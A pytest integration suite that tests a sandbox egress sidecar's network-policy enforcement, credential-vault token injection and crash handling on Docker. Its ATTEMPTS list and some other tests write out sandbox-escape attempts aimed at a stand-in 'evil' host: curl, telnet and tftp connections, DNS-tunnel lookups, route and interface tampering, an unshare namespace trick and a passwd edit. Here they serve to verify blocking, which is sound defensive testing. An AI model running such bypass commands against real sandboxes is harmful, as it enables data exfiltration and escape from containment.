"""Policy and vault on Docker, with the image of our own sidecar: from the request to what really leaves a sandbox."""

import json
import os
import signal
import socket
import subprocess
import threading

import pytest
import requests
from dockernet import Sniffer, images
from dockerserver import DockerServer
from osbserver import BIN, request_body, wait_for

EGRESS = '[egress]\nimage = "osbt-sidecar:1"\nmode = "{}"\n'
HEADER = "OPENSANDBOX-EGRESS-AUTH"


@pytest.fixture(scope="module")
def guarded(engine, outside):
    s = DockerServer(engine, EGRESS.format("dns+nft")).start()
    yield s
    for sandbox in s.list():
        s.delete(sandbox["id"])
    s.assert_clean()
    s.close()


def policy(*allowed, default="deny"):
    return {"defaultAction": default, "egress": [{"action": "allow", "target": t} for t in allowed]}


def api(server, id, method, path, body=None, proxied=False, token=True, timeout=60):
    e = server.ok("GET", f"/v1/sandboxes/{id}/endpoints/18080" + ("?use_server_proxy=true" if proxied else ""))
    return server.session.request(method, f"http://{e['endpoint']}{path}", json=body, timeout=timeout,
                                  headers=e["headers"] if token else {})


def curl(server, id, *words):
    """(exit code of curl, what it printed)."""
    out, _ = server.run(id, f"curl -sS -m 20 {' '.join(words)} 2>&1; echo \" $?\"")
    said, _, code = out.rstrip().rpartition(" ")
    return int(code), said


def header(said, name):
    return [v for k, v in json.loads(said)["headers"] if k.lower() == name.lower()]


def processes(engine, id):
    """The sidecar's, as this machine counts them: the one that watches and the one that works."""
    top = engine.ok("GET", f"/containers/sandbox-egress-{id}/top?ps_args=-eo%20pid,ppid")
    rows = sorted((int(pid), int(ppid)) for pid, ppid in top["Processes"])
    first = engine.ok("GET", f"/containers/sandbox-egress-{id}/json")["State"]["Pid"]
    return first, [pid for pid, _ in rows if pid != first]


def test_the_image_is_what_it_says(world, engine, tmp_path):
    seen = engine.ok("GET", "/images/osbt-sidecar:1/json")
    assert seen["Config"]["Entrypoint"] == ["/usr/bin/opensandbox-egress", "--supervise"]
    a, b = str(tmp_path / "a.tar"), str(tmp_path / "b.tar")
    binary = os.path.join(BIN, "opensandbox-egress")
    assert images.build_egress(binary, a) == images.build_egress(binary, b)
    with open(a, "rb") as f, open(b, "rb") as g:
        assert f.read() == g.read(), "the same bytes from the same inputs"
    # Our own store takes the same file.
    with open(a, "rb") as f:
        r = subprocess.run([os.path.join(BIN, "image_tool"), str(tmp_path / "store"), "import", "-"], stdin=f,
                           capture_output=True, text=True)
    assert r.returncode == 0, r.stderr


def test_policy_end_to_end(guarded, engine, world):
    id = guarded.create(image={"uri": "osbt-curl:1"}, networkPolicy=policy("good.test"))["id"]
    assert curl(guarded, id, "-o /dev/null -w '%{http_code}'", "http://good.test/") == (0, "200")
    assert curl(guarded, id, "http://evil.test/")[0] == 6, "no such name"
    assert curl(guarded, id, f"http://{world.evil}/")[0] == 7, "refused at once"
    assert curl(guarded, id, "-m 2", f"http://{world.evil}:53/")[0] != 0, "no way out over the resolver's port"
    # As root, as the sidecar's own user, and asking another server.
    guarded.run(id, "echo egress:x:10042:10042::/tmp:/bin/sh >> /etc/passwd")
    out, _ = guarded.run(id, f"busybox su egress -c 'id -u; curl -s -m 5 http://{world.evil}/ || echo closed'")
    assert out.split() == ["10042", "closed"]
    assert "NXDOMAIN" in guarded.run(id, f"busybox nslookup evil.test {world.evil} 2>&1")[0]
    assert world.bad.seen == [] and "evil.test" not in world.lookups()
    out, _ = guarded.run(id, "grep CapEff /proc/self/status; id -u")
    caps = int(out.split()[1], 16)
    assert out.split()[2] == "0" and not caps & (1 << 12) and not caps & (1 << 13), "root without NET_ADMIN and NET_RAW"
    side = engine.ok("GET", f"/containers/sandbox-egress-{id}/json")
    with open(f"/proc/{processes(engine, id)[1][0]}/status") as f:
        status = dict(line.split(":", 1) for line in f.read().splitlines())
    assert status["Uid"].split()[0] == str(images.USER) and side["HostConfig"]["CapAdd"] == ["NET_ADMIN"]

    assert api(guarded, id, "GET", "/policy", token=False).status_code == 401
    for proxied in (False, True):
        seen = api(guarded, id, "GET", "/policy", proxied=proxied).json()
        assert seen["enforcementMode"] == "dns+nft" and seen["policy"] == policy("good.test")
    r = api(guarded, id, "PATCH", "/policy", [{"action": "allow", "target": "evil.test"}], proxied=True)
    assert r.status_code == 200, r.text
    assert curl(guarded, id, "http://evil.test/now") == (0, "evil\n") and world.bad.seen == ["/now"]
    assert api(guarded, id, "PATCH", "/policy", [{"action": "deny", "target": "evil.test"}]).status_code == 200
    assert curl(guarded, id, f"http://{world.evil}/")[0] == 7, "what was learned is forgotten"

    cid = side["Id"]
    guarded.ok("POST", f"/v1/sandboxes/{id}/pause", status=202)
    assert api(guarded, id, "GET", "/healthz", proxied=True).status_code == 409, "it leads through the sandbox, which stands still"
    guarded.ok("POST", f"/v1/sandboxes/{id}/resume", status=202)
    guarded.restart()
    assert curl(guarded, id, "http://evil.test/")[0] == 6
    assert api(guarded, id, "GET", "/policy").json()["policy"]["egress"][0] == {"action": "deny", "target": "evil.test"}
    assert engine.ok("GET", f"/containers/sandbox-egress-{id}/json")["Id"] == cid
    guarded.delete(id)
    assert engine.call("GET", f"/containers/sandbox-egress-{id}/json")[0] == 404


def test_vault_end_to_end_and_a_killed_worker(guarded, engine, world):
    id = guarded.create(image={"uri": "osbt-curl:1"}, networkPolicy=policy("good.test"), credentialProxy={"enabled": True})["id"]
    made = {"credentials": [{"name": "t", "source": {"type": "inline", "value": "docker-secret"}}],
            "bindings": [{"name": "b", "match": {"hosts": ["good.test"], "schemes": ["http", "https"], "ports": [80, 443]},
                          "auth": {"type": "bearer", "credential": "t"}}]}
    r = api(guarded, id, "POST", "/credential-vault", made, proxied=True)
    assert r.status_code == 201 and "docker-secret" not in r.text, r.text
    assert api(guarded, id, "GET", "/credential-vault").json()["revision"] == 1
    execd = engine.inspect(id)["State"]["Pid"]
    os.kill(execd, signal.SIGSTOP)  # through the server nothing of the vault passes through the sandbox
    try:
        assert api(guarded, id, "GET", "/credential-vault", proxied=True).json()["revision"] == 1
        with pytest.raises(requests.Timeout):
            api(guarded, id, "GET", "/credential-vault", timeout=1)
    finally:
        os.kill(execd, signal.SIGCONT)

    def injected(scheme):
        code, said = curl(guarded, id, f"{scheme}://good.test/")
        assert code == 0, said
        return header(said, "authorization")

    assert injected("http") == ["Bearer docker-secret"]
    assert injected("https") == ["Bearer docker-secret"], "trusted inside, verified outside"
    pem, _ = guarded.run(id, "cat /opt/opensandbox/mitmproxy-ca-cert.pem")
    told = {"CACertificates": ["".join(pem.split("-----")[2].split())]}
    assert json.loads(guarded.run(id, "cat /etc/chromium/policies/managed/opensandbox-egress.json")[0]) == told
    told = {"policies": {"Certificates": {"Install": ["/opt/opensandbox/mitmproxy-ca-cert.pem"]}}}
    assert json.loads(guarded.run(id, "cat /etc/firefox/policies/policies.json")[0]) == told
    assert "docker-secret" not in guarded.run(id, "env; cat /opt/opensandbox/* 2>/dev/null | grep -a docker-secret")[0]
    for name in (f"sandbox-{id}", f"sandbox-egress-{id}"):
        assert "docker-secret" not in json.dumps(engine.ok("GET", f"/containers/{name}/json"))
    assert api(guarded, id, "PATCH", "/policy", [{"action": "allow", "target": "evil.test"}]).status_code == 200

    # While the worker is dead and nobody starts another, everything is closed.
    first, workers = processes(engine, id)
    os.kill(first, signal.SIGSTOP)
    try:
        for pid in workers:
            os.kill(pid, signal.SIGKILL)
        assert curl(guarded, id, "-m 5", "http://evil.test/closed")[0] != 0
        assert curl(guarded, id, "-m 5", f"http://{world.evil}/closed")[0] != 0
        assert curl(guarded, id, "-m 5", f"--resolve good.test:443:{world.good}", "https://good.test/")[0] != 0
        assert "/closed" not in world.bad.seen
    finally:
        os.kill(first, signal.SIGCONT)

    def back():
        try:
            return api(guarded, id, "GET", "/credential-vault").status_code == 200
        except OSError:
            return False

    wait_for("the next worker", back)
    guarded.restart()
    assert api(guarded, id, "GET", "/credential-vault", proxied=True).json()["revision"] == 1
    assert api(guarded, id, "GET", "/policy").json()["policy"]["egress"][0]["target"] == "evil.test", "as it was patched"
    assert injected("https") == ["Bearer docker-secret"], "with its vault and the certificate that is trusted"
    assert curl(guarded, id, "http://evil.test/open") == (0, "evil\n")
    guarded.delete(id)
    assert f"opensandbox-runtime-{id}" not in engine.volumes()


ATTEMPTS = """
curl -s -m 3 http://{evil}/
curl -s -m 3 --connect-timeout 2 telnet://{evil}:853 </dev/null
curl -s -m 3 --connect-timeout 2 telnet://{evil}:9999 </dev/null
curl -s -m 2 tftp://{evil}:443/quic
curl -s -m 2 tftp://{evil}:9999/udp
curl -s -m 3 --local-port 53 http://{evil}/
busybox ping -c 1 -W 1 {evil}
busybox nslookup -type=txt {label}.evil.test {evil}
busybox nslookup {label}.{label}.evil.test
busybox su egress -c 'curl -s -m 3 http://{evil}/'
busybox ip route add {evil} via {gateway}
busybox ip link set eth0 down
busybox ip addr add {evil}/32 dev lo
busybox arping -c 1 -w 1 {gateway}
busybox unshare -U -r -n curl -s -m 3 http://{evil}/
mount -t proc none /tmp
"""


def test_nothing_gets_out(guarded, engine, world):
    """Tried by root inside; looked for on the bridge outside."""
    id = guarded.create(image={"uri": "osbt-curl:1"}, networkPolicy=policy("good.test"))["id"]
    side = engine.ok("GET", f"/containers/sandbox-egress-{id}/json")["NetworkSettings"]["IPAddress"]
    guarded.run(id, "echo egress:x:10042:10042::/tmp:/bin/sh >> /etc/passwd")
    words = {"evil": world.evil, "gateway": engine.gateway, "label": "a" * 60}
    sniffer = Sniffer(engine.name)
    try:
        for line in ATTEMPTS.format(**words).strip().splitlines():
            out, _ = guarded.run(id, f"({line}) >/tmp/out 2>&1 && echo done || echo refused")
            assert out == "refused" or "telnet" in line, (line, guarded.run(id, "cat /tmp/out")[0])
        assert curl(guarded, id, "-o /dev/null", "http://good.test/")[0] == 0, "the one way that is open"
    finally:
        sniffer.close()
    own = {(to, proto, port) for source, to, proto, port in sniffer.seen if source == side}
    # Lookups by the sidecar, the allowed server, and answers to this machine on ports that it chose.
    assert (world.good, 6, 80) in own and (engine.gateway, 17, 53) in own
    assert {to for to, proto, port in own} == {world.good, engine.gateway}, own
    assert not [x for x in own if x[1] not in (6, 17)] and not [x for x in sniffer.seen if x[0] == "ipv6" and x[2] != 58], own
    assert "evil" not in world.lookups() and world.bad.seen == []
    guarded.delete(id)


def test_names_only(make, engine, world):
    s = make(EGRESS.format("dns") + "disable_ipv6 = false\n")
    id = s.create(image={"uri": "osbt-curl:1"}, networkPolicy=policy("good.test"))["id"]
    assert not engine.ok("GET", f"/containers/sandbox-egress-{id}/json")["HostConfig"].get("Sysctls")
    assert api(s, id, "GET", "/policy").json()["enforcementMode"] == "dns"
    assert curl(s, id, "-o /dev/null", "http://good.test/")[0] == 0
    assert curl(s, id, "http://evil.test/")[0] == 6
    assert curl(s, id, f"http://{world.evil}/by-address") == (0, "evil\n"), "this mode does not look at addresses"
    s.delete(id)


def test_the_sidecars_container_is_killed(guarded, engine, world):
    """Its network is gone with it: the sandbox is closed, says so, and goes as any other."""
    id = guarded.create(networkPolicy=policy("good.test"))["id"]
    engine.ok("POST", f"/containers/sandbox-egress-{id}/kill")
    status = guarded.wait_state(id, "Failed")["status"]
    assert "egress sidecar" in status["message"]
    guarded.delete(id)
    # The same while the server is away.
    id = guarded.create(networkPolicy=policy("good.test"))["id"]
    guarded.stop()
    engine.ok("POST", f"/containers/sandbox-egress-{id}/kill")
    guarded.start()
    assert "egress sidecar" in guarded.wait_state(id, "Failed")["status"]["message"]
    guarded.delete(id)


def test_a_sidecar_that_cannot_start_is_told(make, engine, world):
    s = make(EGRESS.format("dns+nft"), start=False)
    s.start({"OPENSANDBOX_EGRESS_DENY_WEBHOOK": "no address"})
    r = s.call("POST", "/v1/sandboxes", request_body(networkPolicy=policy("good.test")))
    assert r.status_code == 500 and r.json()["code"] == "DOCKER::SANDBOX_START_FAILED", r.text
    assert "sidecar" in r.json()["message"] and "DENY_WEBHOOK" in r.json()["message"], r.text
    s.assert_clean()


def test_a_crash_between_sidecar_and_sandbox_leaves_nothing(make, engine, world):
    s = make(EGRESS.format("dns+nft"))
    with socket.socket() as silent:  # a registry that never answers holds the create where it is
        silent.bind(("127.0.0.1", 0))
        silent.listen(16)
        uri = f"127.0.0.1:{silent.getsockname()[1]}/none:1"

        def create():
            try:
                s.call("POST", "/v1/sandboxes", request_body(image={"uri": uri}, networkPolicy=policy("good.test")))
            except OSError:
                pass  # killed while we waited

        t = threading.Thread(target=create)
        t.start()
        wait_for("the sidecar", lambda: [c for c in s.mine() if c["State"] == "running"])
        silent.accept()[0].close()  # the engine asks for the image: the sidecar was ready before
        s.kill()
        t.join()
    s.start()
    wait_for("nothing to be left", lambda: not s.mine())
    s.assert_clean()
